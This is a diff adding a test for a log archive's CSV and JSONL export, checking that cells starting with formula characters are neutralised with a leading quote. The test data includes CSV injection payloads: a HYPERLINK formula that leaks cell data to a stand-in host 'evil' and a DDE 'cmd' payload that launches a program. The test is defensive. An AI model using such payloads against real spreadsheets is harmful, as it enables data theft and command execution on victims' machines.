@@ -11,6 +11,8 @@ import { GENESIS, dayOf, encodeLine, parseLine, posAfter, sha256, type RecordBod
 import { ArchiveWriter, type NewRecord } from '../../collector/archive/writer.js'
 import { newKeyPair } from '../../collector/archive/manifest.js'
 import { verifyArchive } from '../../collector/archive/verify.js'
+import { csvCell, exportLogs } from '../../collector/archive/export.js'
+import { parseCsv } from '../helpers/archive.js'
 import { tmpDir } from '../helpers/tmp.js'
 
 const logger = pino({ level: 'silent' })
@@ -112,4 +114,37 @@ t.test('the signed head witness shows a cut of the open day at a flush boundary'
   t.match(verifyArchive(dir, pub).fault, { record: 3, message: /holds 2 records, the signed head witness 3/ }, 'the last flush cut off: still whole gzip, but shorter than the head says')
   writeFileSync(join(dir, 'head'), readFileSync(join(dir, 'head'), 'utf8').replace('"records":3', '"records":2'))
   t.match(verifyArchive(dir, pub).fault, { file: /head$/, message: /head witness's signature does not match/ }, 'the head cannot be edited to match')
+})
+
+t.test('logs export: log events only; a cell that a spreadsheet would run as a formula is text', async t => {
+  const dir = await tmpDir(t)
+  const w = new ArchiveWriter({ dir, key, keepMs: 400 * 86_400_000, minFree: 0, timeZone: 'Asia/Tokyo', logger })
+  await w.load()
+  // Log lines an attacker controls (an sshd user name, a kiosk's text) that Excel would take as formulas.
+  const messages = ['=HYPERLINK("http://evil/?"&A1,"見る")', '+81 3 1234', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1', '普通の行 = ok', 'a-b']
+  const logs = messages.map((message, i) => ({ ...ev(i), host: `h${i}`, message }))
+  await w.append('2026-12-01', [
+    ...logs.slice(0, 4),
+    { w: [1, 9000, 0], k: 'alert', r: 1_800_000_000_000, t: 1_800_000_000_000, host: 'h1', role: 'server', site: 'honcho', source: 'alert/cpu_high', level: 'error', message: 'firing: =1+1' },
+    { w: [1, 9000, 0], k: 'audit', a: 7, r: 1_800_000_000_001, t: 1_800_000_000_001, host: '', role: '', site: '', source: 'audit/admin', level: 'info', message: 'token.create {}' },
+    ...logs.slice(4)
+  ])
+  for (const format of ['csv', 'jsonl'] as const) {
+    const out = join(dir, `out.${format}`)
+    const r = await exportLogs({ dir, from: '2026-12-01', to: '2026-12-01', format, out })
+    t.equal(r.events, logs.length, `${format}: the alert and audit records are not counted as exported`)
+    const text = readFileSync(out, 'utf8')
+    if (format === 'jsonl') {
+      t.same(text.split('\n').slice(0, -1).map(l => JSON.parse(l).message), messages, 'jsonl: the messages unchanged, no alert or audit row')
+      continue
+    }
+    const rows = parseCsv(text.slice(1)).slice(1)
+    t.same(rows.map(r => r[1]), logs.map(l => l.host), 'csv: one row per log event, none for the alert and audit records')
+    const danger = /^[=+\-@\t\r]/
+    t.same(rows.map(r => r[6]), messages.map(m => danger.test(m) ? `'${m}` : m), "csv: = + - @ tab CR at the start get a leading '")
+    t.ok(rows.every(r => r.every(c => !danger.test(c))), 'no cell starts with a formula character')
+  }
+  t.equal(csvCell('-1'), "'-1")
+  t.equal(csvCell('=a,b'), `"'=a,b"`, 'the quote goes inside the RFC 4180 quoting')
+  t.equal(csvCell('2026-12-01T00:00:00.000Z'), '2026-12-01T00:00:00.000Z')
 })
